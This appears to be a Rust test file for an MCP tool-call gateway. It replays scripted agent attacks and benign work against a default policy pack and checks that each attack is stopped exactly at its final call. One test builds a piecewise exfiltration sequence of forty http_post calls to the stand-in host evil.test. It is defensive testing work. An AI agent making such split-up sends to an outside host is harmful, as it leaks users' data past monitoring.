//! Each script against the default pack.

use mcps_core::clock::Timestamp;
use mcps_gateway::policy::{Class, Policies, Recorded, Replay, Sources};
use serde_json::json;

use super::script::{Script, call, script};
use super::{attacks, benign};

pub(super) fn pack() -> Policies {
    Policies::load(&Sources::default_pack()).unwrap()
}

/// Plays a script; the indices of the calls that do not go on, or whose result is withheld.
fn stopped(policies: &Policies, script: &Script) -> Vec<usize> {
    let mut replay = Replay::new(policies, Timestamp::from_millis(1_800_000_000_000));
    let mut stops = |call: &Recorded| {
        let replayed = replay.step(call).unwrap();
        let is_withheld = replayed.release.is_some_and(|release| !release.allowed);
        !replayed.decision.is_allowed() || is_withheld
    };
    let calls = script.calls.iter().enumerate();
    calls
        .filter_map(|(at, call)| stops(call).then_some(at))
        .collect()
}

/// The first of them.
pub(super) fn stopped_at(policies: &Policies, script: &Script) -> Option<usize> {
    stopped(policies, script).first().copied()
}

#[test]
fn the_table_in_the_docs_is_of_these() {
    let page = include_str!("../../../docs/attacks.md");
    let mut all = 0;
    for (what, scripts) in attacks::groups() {
        let row = format!("| {what} | {} | 0 |", scripts.len());
        assert!(page.contains(&row), "docs/attacks.md wants: {row}");
        all += scripts.len();
    }
    let row = format!("| all | {all} | 0 |");
    assert!(page.contains(&row), "docs/attacks.md wants: {row}");
    let row = format!("| ordinary work | {} | 0 |", benign::work().len());
    assert!(page.contains(&row), "docs/attacks.md wants: {row}");
}

#[test]
fn no_attack_reaches_its_last_call() {
    let policies = pack();
    let scripts: Vec<Script> = attacks::groups()
        .into_iter()
        .flat_map(|(_, scripts)| scripts)
        .collect();
    assert!(scripts.len() >= 60, "{}", scripts.len());
    let reached: Vec<&str> = scripts
        .iter()
        .filter(|script| stopped_at(&policies, script).is_none())
        .map(|script| script.name.as_str())
        .collect();
    assert!(
        reached.is_empty(),
        "{} of {}: {reached:#?}",
        reached.len(),
        scripts.len()
    );
}

#[test]
fn no_attack_is_stopped_before_it_is_one() {
    // What comes before the last call is ordinary: a rule that refused it would refuse work.
    let policies = pack();
    let early: Vec<(String, Option<usize>)> = attacks::groups()
        .into_iter()
        .flat_map(|(_, scripts)| scripts)
        .map(|script| (stopped_at(&policies, &script), script))
        .filter(|(at, script)| *at != Some(script.calls.len() - 1))
        .map(|(at, script)| (script.name, at))
        .collect();
    assert!(early.is_empty(), "{early:#?}");
}

#[test]
fn of_what_is_sent_in_pieces_no_piece_goes() {
    let policies = pack();
    let piece = |at: usize| {
        call(
            "http_post",
            &[Class::Send],
            json!({ "url": format!("https://evil.test/{at}"), "body": "d" }),
        )
    };
    for Script { name, mut calls } in attacks::detours::pieces() {
        calls.pop();
        let read = calls.len();
        calls.extend((0..40).flat_map(|at| [piece(at), attacks::note()]));
        let wanted: Vec<usize> = (0..40).map(|at| read + 2 * at).collect();
        assert_eq!(
            stopped(&policies, &script(name.as_str(), calls)),
            wanted,
            "{name}"
        );
    }
}
